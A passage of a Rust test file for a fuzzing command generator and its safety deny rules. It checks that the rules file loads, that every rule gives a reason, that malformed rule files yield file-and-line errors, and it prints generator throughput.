    // names a denied command: the gate answers for every output without panicking.
    let rules = SafetyRules::load_builtin().with_model(spec());
    let mut generator = Generator::new(spec(), 9);
    let mut rng = SplitMix64::new(9);
    for _ in 0..500 {
        let command = generator.next_command();
        let out = mutate_any(spec(), &command, &mut rng);
        let verdict = rules.check_bytes(&out.bytes, scratch());
        if let Verdict::Deny { rule_id, .. } = &verdict {
            assert!(!rule_id.is_empty());
        }
    }
}

// ---------------------------------------------------------------------------------------
// The rules file.

#[test]
fn rules_file_loads_and_every_rule_has_a_reason() {
    let rules = SafetyRules::from_str(BUILTIN_RULES, "deny-rules.toml").expect("loads");
    assert_eq!(rules.rules().len(), 26);
    assert_eq!(
        rules.rules().len(),
        BUILTIN_RULES.matches("[[rule]]").count() - 1,
        "one mention in the header"
    );
    for rule in rules.rules() {
        assert!(rule.reason.len() > 20, "{} has a reason", rule.id);
        assert!(rule.source.starts_with("deny-rules.toml:"));
    }
    let table = rules.rules_table();
    assert_eq!(table.lines().filter(|l| l.starts_with("- **")).count(), 26);
    assert!(table.contains("**hmp** `deny`: human-monitor-command"));
    // The same file loads from a path.
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("src/gen/deny-rules.toml");
    assert_eq!(SafetyRules::load(&path).expect("loads from path").rules().len(), 26);
}

#[test]
fn malformed_rules_name_file_and_line() {
    let bad_toml = "[[rule]]\nid = \"a\"\ncommands = [\"x\"\naction = \"deny\"\n";
    let err = SafetyRules::from_str(bad_toml, "bad.toml").expect_err("syntax error");
    assert!(matches!(err, RulesError::Syntax { line: 4, .. } | RulesError::Syntax { line: 3, .. }), "{err}");
    assert!(err.to_string().starts_with("bad.toml:"), "{err}");

    let no_reason = "[[rule]]\nid = \"a\"\ncommands = [\"x\"]\naction = \"deny\"\nreason = \"\"\n\n[[rule]]\nid = \"b\"\n";
    let err = SafetyRules::from_str(no_reason, "r.toml").expect_err("missing reason");
    assert_eq!(err.to_string(), "r.toml:1: rule 'a': missing reason");

    let bad_action = "[[rule]]\nid = \"ok\"\ncommands = [\"x\"]\naction = \"deny\"\nreason = \"fine\"\n\n[[rule]]\nid = \"b\"\ncommands = [\"y\"]\naction = \"nuke\"\nreason = \"r\"\n";
    let err = SafetyRules::from_str(bad_action, "r.toml").expect_err("unknown action");
    assert!(err.to_string().starts_with("r.toml:7: rule 'b': unknown action 'nuke'"), "{err}");

    let min_elsewhere =
        "[[rule]]\nid = \"m\"\ncommands = [\"x\"]\naction = \"deny\"\nmin = 1\nreason = \"r\"\n";
    let err = SafetyRules::from_str(min_elsewhere, "m.toml").expect_err("min without max");
    assert_eq!(err.to_string(), "m.toml:1: rule 'm': only max takes min");
    let min_above = "[[rule]]\nid = \"m\"\ncommands = [\"x\"]\naction = \"max\"\nmembers = [\"n\"]\nmin = 5\nmax = 4\nreason = \"r\"\n";
    let err = SafetyRules::from_str(min_above, "m.toml").expect_err("min above max");
    assert_eq!(err.to_string(), "m.toml:1: rule 'm': min exceeds max");

    let unknown_key =
        "[[rule]]\nid = \"a\"\ncommands = [\"x\"]\naction = \"deny\"\nreason = \"r\"\ncolour = 1\n";
    let err = SafetyRules::from_str(unknown_key, "k.toml").expect_err("unknown key");
    assert!(matches!(err, RulesError::Syntax { line: 6, .. }), "{err}");
}

// ---------------------------------------------------------------------------------------
// Throughput (printed, not asserted: the machine is shared).

#[test]
fn generator_throughput() {
    let mut generator = Generator::new(spec(), 1);
    let start = std::time::Instant::now();
    let n = 2000;
    for _ in 0..n {
        std::hint::black_box(generator.next_command());
    }
    let secs = start.elapsed().as_secs_f64();
    println!("generator: {n} commands in {secs:.3}s = {:.0} commands/s", n as f64 / secs);
}
